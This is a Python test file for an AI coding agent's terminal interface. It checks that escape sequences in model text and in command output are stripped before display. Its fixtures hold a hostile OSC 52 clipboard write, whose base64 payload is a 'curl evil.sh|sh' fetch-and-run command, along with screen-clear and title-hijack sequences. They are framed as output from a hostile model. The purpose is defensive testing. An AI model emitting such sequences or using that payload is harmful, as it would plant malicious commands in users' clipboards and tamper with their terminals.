"""Finding 10 in the TUI: a hostile model's text and its command's output never put raw escape
sequences (clipboard writes, screen clears, title sets) on the person's terminal."""

from __future__ import annotations

from lever.tui.answer import AnswerCell
from lever.tui.cells import CommandCell
from tests.tui.conftest import (  # noqa: F401  (fixtures)
    lever_home,
    make_app,
    screen_segments,
    type_text,
    wait_for,
    workdir,
)

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"
PRINTF = r"printf 'out\033]52;c;ZXZpbA==\007put\033[2J\033]0;title\007\n'"


async def test_model_text_and_command_output_reach_the_screen_clean(make_app) -> None:  # noqa: F811
    call = {"name": "shell", "arguments": {"command": PRINTF}, "call_id": "c1"}
    app, _ = make_app(
        [
            {"text": f"first{OSC52}", "tool_calls": [call]},
            {"text": "done\x1b[2J\x1b]0;pwned\x07 here"},
        ]
    )
    async with app.run_test(size=(100, 30)) as pilot:
        await type_text(pilot, "go")
        await pilot.press("enter")

        def answered() -> bool:
            answers = [c for c in app.transcript.children if isinstance(c, AnswerCell)]
            return any("here" in a.source for a in answers) and not app.busy

        await wait_for(pilot, answered, what="the second answer")
        await pilot.pause()
        (command,) = [c for c in app.transcript.children if isinstance(c, CommandCell)]
        assert "output" in command.output and "\x1b" not in command.output
        answers = [c for c in app.transcript.children if isinstance(c, AnswerCell)]
        assert [a.source for a in answers] == ["first", "done here"]
        shown = "".join(s.text for s in screen_segments(app) if not s.control)
        assert "\x1b" not in shown and "\x07" not in shown
